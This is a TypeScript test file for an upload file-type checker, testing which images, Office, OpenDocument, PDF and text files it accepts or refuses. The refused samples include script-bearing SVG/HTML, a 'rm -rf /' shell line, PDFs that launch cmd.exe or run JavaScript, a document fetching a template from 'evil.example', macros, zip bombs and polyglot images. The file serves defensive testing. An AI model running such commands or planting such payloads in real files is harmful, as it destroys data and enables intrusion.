import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { kindOf } from '../../src/files/kinds/kind-of.ts';
import { Refused } from '../../src/files/kinds/kinds.ts';
import { zip } from '../imports/engine/books.ts';
import { animatedWebp, eicar, office, openDocument, pdf, picture, pngBomb } from '../support/file-samples.ts';
import { madeWorkbook } from '../support/workbooks.ts';

let directory: string;
beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'cen-kinds-'));
});
afterAll(() => rm(directory, { recursive: true, force: true }));

let number = 0;
async function told(content: Buffer | string, name = 'file'): Promise<string> {
  const path = join(directory, String((number += 1)));
  await writeFile(path, content);
  return kindOf(path, name).catch((error: unknown) => {
    if (error instanceof Refused) return `refused: ${error.refusal.reason}`;
    throw error;
  });
}

describe('a file that is taken', () => {
  test.each([
    ['jpeg', 'jpeg'],
    ['png', 'png'],
    ['webp', 'webp'],
    ['tiff', 'tiff'],
  ] as const)('%s', async (format, kind) => expect(await told(await picture(format, 300, 200))).toBe(kind));
  test.each(['docx', 'xlsx', 'pptx'] as const)('%s', async kind =>
    expect(await told(office(kind), 'x.zip')).toBe(kind),
  );
  test.each([
    ['text', 'odt'],
    ['spreadsheet', 'ods'],
    ['presentation', 'odp'],
  ])('OpenDocument %s', async (mime, kind) => expect(await told(openDocument(mime))).toBe(kind));

  test('a PDF, whatever it is called', async () => {
    expect(await told(pdf(3), 'picture.jpg')).toBe('pdf');
    expect(await told(pdf(1, { packed: ['<</A 1>>'] }))).toBe('pdf');
  });

  test('a document with a chart’s workbook in it, and a template of its writer’s machine', async () => {
    expect(
      await told(
        office('docx', {
          parts: {
            'word/embeddings/Sheet1.xlsx': 'x',
            'word/_rels/settings.xml.rels': template('file:///C:\\Users\\a\\Normal.dotx'),
          },
        }),
      ),
    ).toBe('docx');
  });

  test('a workbook as a library writes it', async () => {
    expect(await told(await madeWorkbook({ a: [['x', 1]] }))).toBe('xlsx');
  });

  test.each([
    ['a.txt', 'Saisie de 12 bouteilles\r\n', 'txt'],
    ['a.csv', '\ufeffdate;poids\n1;2\n', 'csv'],
    ['a.txt', Buffer.from('réfrigérant à 5 °C', 'latin1'), 'txt'],
    ['a.txt', 'if a < b and b > c then <br> maybe', 'txt'],
    ['a', '海关'.repeat(40_000), 'txt'],
    ['note.md', '# Heading\n\n- a\n', 'txt'],
  ])('text: %s', async (name, content, kind) => expect(await told(content, name)).toBe(kind));
});

const template = (target: string): string =>
  '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/' +
  `relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`;

describe('a file that is refused', () => {
  const page = '<!doctype html><html><script>alert(1)</script></html>';
  const dos = Buffer.concat([
    Buffer.from('MZ'),
    Buffer.alloc(58),
    Buffer.from([64, 0, 0, 0]),
    Buffer.from('PE\0\0This program cannot be run in DOS mode'),
  ]);
  const archive = zip({ 'a.html': page });

  test.each<readonly [what: string, content: Buffer | string, reason: string]>([
    ['nothing', '', 'empty'],
    ['an SVG', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'markup'],
    ['an SVG behind its prologue', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', 'markup'],
    ['an SVG behind a comment and spaces', '\ufeff  \n<!-- a --><svg/>', 'markup'],
    ['HTML renamed to PDF', page, 'markup'],
    ['HTML far down in a text', `${'a line of text\n'.repeat(20_000)}<script>alert(1)</script>`, 'markup'],
    ['HTML across the pieces it is read in', `${'x'.repeat(65_530)}<script >alert(1)</script>`, 'markup'],
    ['a program', dos, 'program'],
    ['a program of Linux', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(100)]), 'program'],
    ['a script', '#!/bin/sh\nrm -rf /\n', 'program'],
    ['PostScript', '%!PS-Adobe-3.0\nshowpage', 'notTaken'],
    ['a GIF', Buffer.from('GIF89a\x01\0\x01\0\x80\0\0\0\0\0', 'latin1'), 'notTaken'],
    ['a packed file', archive, 'notTaken'],
    ['bytes of nothing', Buffer.from([1, 2, 3, 0, 0, 255, 254, 9]), 'notTaken'],
    ['text of 16 bits', Buffer.from('\ufeffabc', 'utf16le'), 'notTaken'],
    ['RTF', '{\\rtf1\\ansi hello}', 'notTaken'],
    ['a PDF whose header comes late', Buffer.concat([Buffer.from('\n\n'), pdf()]), 'hidden'],
    ['HTML before a PDF', Buffer.concat([Buffer.from('<html><script>1</script></html>\n'), pdf()]), 'markup'],
    [
      'HTML in the first lines of a PDF',
      Buffer.concat([Buffer.from('%PDF-1.4\n<html><script>alert(1)</script>\n'), pdf()]),
      'hidden',
    ],
    ['a packed file behind a PDF', Buffer.concat([pdf(), archive]), 'hidden'],
    ['a PDF cut short', pdf(40).subarray(0, 3000), 'damaged'],
    ['a PDF with a script', pdf(1, { catalogue: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' }), 'active'],
    ['a PDF that starts a program', pdf(1, { catalogue: '/OpenAction<</S/Launch/F(cmd.exe)>>' }), 'active'],
    [
      'a PDF with a file in it',
      pdf(1, { catalogue: '/Names<</EmbeddedFiles<</Names[(a)<</EF<<>>>>]>>>>' }),
      'attachments',
    ],
    ['a protected PDF', pdf(1, { trailer: '/Encrypt 900 0 R' }), 'locked'],
    ['a document with macros', office('docx', { parts: { 'word/vbaProject.bin': 'x' } }), 'macros'],
    [
      'macros by another name',
      office('docx', {
        parts: { 'word/pictures.bin': 'x' },
        types: '<Override PartName="/word/pictures.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      }),
      'macros',
    ],
    [
      'a document with a workbook for macros in it',
      office('docx', { parts: { 'word/embeddings/Sheet1.xlsm': 'x' } }),
      'macros',
    ],
    [
      'a document with a file to click on',
      office('docx', { parts: { 'word/embeddings/oleObject1.bin': 'x' } }),
      'attachments',
    ],
    [
      'a document that fetches its template',
      office('docx', { parts: { 'word/_rels/settings.xml.rels': template('https://evil.example/a.dotm') } }),
      'active',
    ],
    [
      'a document made for macros',
      zip({
        '[Content_Types].xml':
          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        'word/document.xml': '<a/>',
      }),
      'macros',
    ],
    ['OpenDocument with macros', openDocument('text', { 'Basic/Standard/Module1.xml': '<a/>' }), 'macros'],
    [
      'OpenDocument with a password',
      openDocument('text', { 'META-INF/manifest.xml': '<manifest:encryption-data/>' }),
      'locked',
    ],
    ['two lists of contents', zip({ '[Content_Types].xml': '<Types/>', '[content_types].XML': '<Types/>' }), 'damaged'],
    [
      'an Office file of before',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
      'oldOffice',
    ],
    [
      'a document with a password',
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(600),
        Buffer.from('EncryptedPackage', 'utf16le'),
      ]),
      'locked',
    ],
    ['a document cut short', office('docx').subarray(0, 200), 'damaged'],
  ])('%s', async (_what, content, reason) => expect(await told(content, 'report.pdf')).toBe(`refused: ${reason}`));

  test.each(['jpeg', 'png', 'webp', 'tiff'] as const)('a %s with something else in its tail', async format => {
    const image = await picture(format, 200, 200);
    for (const tail of [
      archive,
      Buffer.concat([Buffer.alloc(70_000), Buffer.from(page)]),
      dos,
      pdf(),
      Buffer.from('Rar!\x1a\x07\x01\0', 'latin1'),
    ]) {
      expect(await told(Buffer.concat([image, tail]))).toBe('refused: hidden');
    }
    // What cameras append is no file of another kind.
    expect(await told(Buffer.concat([image, Buffer.alloc(500)]))).toBe(format);
  });

  test('a page in the comment of a JPEG', async () => {
    const image = await picture('jpeg', 200, 200);
    const comment = Buffer.from(`**${page}`);
    comment.writeUInt16BE(comment.length, 0);
    expect(
      await told(Buffer.concat([image.subarray(0, 2), Buffer.from([0xff, 0xfe]), comment, image.subarray(2)])),
    ).toBe('refused: hidden');
  });

  test('moving pictures', async () => expect(await told(await animatedWebp(200))).toBe('refused: animated'));

  test('a packed bomb in a document, of which only the directory is read', async () => {
    const bomb = office('docx', { parts: { 'word/media/image1.png': Buffer.alloc(600 * 1024 * 1024) } });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const began = performance.now();
    expect(await told(bomb)).toBe('refused: bomb');
    expect(performance.now() - began).toBeLessThan(1000);
  });

  test('a bomb in the one part that is read, and parts that share their bytes', async () => {
    expect(await told(zip({ '[Content_Types].xml': Buffer.alloc(20 * 1024 * 1024, ' ') }))).toBe('refused: bomb');
    const shared = office('docx');
    const at = shared.lastIndexOf(Buffer.from('PK\x01\x02', 'latin1'));
    shared.writeUInt32LE(0x7fffffff, at + 20);
    expect(await told(shared)).toBe('refused: bomb');
  });
});

test('the test file of scanners and a bomb of pixels are what they say; what is in them is found later', async () => {
  expect(await told(eicar(), 'eicar.com')).toBe('txt');
  expect(await told(pngBomb(2000))).toBe('png');
});
